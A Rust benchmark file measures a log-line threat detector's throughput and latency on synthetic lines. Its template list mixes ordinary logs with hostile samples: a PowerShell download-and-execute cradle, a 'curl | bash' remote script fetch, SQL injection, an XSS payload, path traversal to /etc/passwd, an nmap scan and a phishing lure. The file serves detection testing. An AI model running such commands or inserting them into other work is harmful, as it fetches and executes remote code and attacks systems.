//! Threat detection throughput and latency (issue 4 figures: batched log lines at about 2,000
//! lines/s on the 2-core machine; single-line latency p50 under 5 ms).
//! Run: `cargo bench --bench threat`. The lines are synthetic, written here: a mix of ordinary log
//! lines and attack traces as a detector sees them in a stream. They are all distinct, so the
//! detector's duplicate cache does not flatter the batch figure.

use cacao_forge::threat::detector::{Detector, DetectorOptions};
use cacao_forge::threat::shipped::{load_detector, DetectorSource};
use criterion::{criterion_group, criterion_main, BatchSize, Criterion, Throughput};
use std::hint::black_box;

const TEMPLATES: &[&str] = &[
    "Nov 21 10:04:{n} web01 sshd[2231]: Failed password for invalid user oracle from 203.0.113.{n} port 50122 ssh2",
    "192.0.2.{n} - - [21/Nov/2026:10:06:01 +0000] \"GET /index.php?id={n}%27%20OR%201=1-- HTTP/1.1\" 200 512",
    "192.0.2.{n} - - [21/Nov/2026:10:06:02 +0000] \"GET /static/app.{n}.js HTTP/1.1\" 200 10432 \"-\" \"Mozilla/5.0\"",
    "Nov 21 10:07:{n} db02 systemd[1]: Started Session {n} of user postgres.",
    "powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.{n}/a')",
    "{\"level\":\"info\",\"msg\":\"request completed\",\"status\":200,\"duration_ms\":{n},\"path\":\"/api/v1/items\"}",
    "Your mailbox is almost full - verify your account within {n} hours at http://mail-verify{n}.example.net",
    "curl -fsSL http://198.51.100.{n}/x.sh | bash",
    "INFO dfs.DataNode: Receiving block blk_{n} src: /10.0.0.{n}:50010 dest: /10.0.0.1:50010",
    "q=<img src=x onerror=alert({n})>",
    "nmap -sS -p 1-{n} 10.0.0.0/24",
    "GET /download?file=../../../../etc/passwd&v={n} HTTP/1.1",
];

fn lines(count: usize) -> Vec<String> {
    (0..count).map(|i| TEMPLATES[i % TEMPLATES.len()].replace("{n}", &(i / TEMPLATES.len() + 10).to_string())).collect()
}

fn detector() -> Detector {
    load_detector(&DetectorSource::default(), DetectorOptions::default()).expect("the embedded threat model loads")
}

fn detection(c: &mut Criterion) {
    // As the CLI does: no threads inside candle's ops; batches are split across texts instead
    // (`DetectorOptions::workers`). Set before any thread starts.
    if std::env::var_os("CANDLE_NUM_THREADS").is_none() {
        std::env::set_var("CANDLE_NUM_THREADS", "1");
    }
    let detector = detector();
    let batch = lines(1024);
    let refs: Vec<&str> = batch.iter().map(String::as_str).collect();
    detector.detect_batch(&refs[..8]).unwrap();
    let mut g = c.benchmark_group("threat");
    g.sample_size(10);
    g.throughput(Throughput::Elements(refs.len() as u64));
    g.bench_function("detect_batch_1024_lines", |b| {
        b.iter(|| black_box(detector.detect_batch(black_box(&refs)).unwrap()))
    });
    let one_worker =
        load_detector(&DetectorSource::default(), DetectorOptions { workers: 1, ..DetectorOptions::default() })
            .expect("the embedded threat model loads");
    g.bench_function("detect_batch_1024_lines_1_worker", |b| {
        b.iter(|| black_box(one_worker.detect_batch(black_box(&refs)).unwrap()))
    });
    g.finish();

    let mut g = c.benchmark_group("threat_single");
    g.throughput(Throughput::Elements(1));
    let mut i = 0;
    g.bench_function("detect_one_line", |b| {
        b.iter_batched(
            || {
                i += 1;
                batch[i % batch.len()].clone()
            },
            |line| black_box(detector.detect(&line).unwrap()),
            BatchSize::SmallInput,
        )
    });
    g.bench_function("detect_one_line_explained", |b| {
        b.iter_batched(
            || {
                i += 1;
                batch[i % batch.len()].clone()
            },
            |line| black_box(detector.detect_explained(&line).unwrap()),
            BatchSize::SmallInput,
        )
    });
    g.finish();

    // Each member alone, batched: where the time goes.
    let mut g = c.benchmark_group("threat_members");
    g.sample_size(10);
    g.throughput(Throughput::Elements(refs.len() as u64));
    for n in 1..=detector.members().len() {
        let mut one = load_detector(
            &DetectorSource { ensemble: Some(n), ..DetectorSource::default() },
            DetectorOptions::default(),
        )
        .unwrap();
        one.truncate_members(n);
        g.bench_function(format!("first_{n}_members_batch_1024"), |b| {
            b.iter(|| black_box(one.detect_batch(black_box(&refs)).unwrap()))
        });
    }
    g.finish();
}

criterion_group!(benches, detection);
criterion_main!(benches);
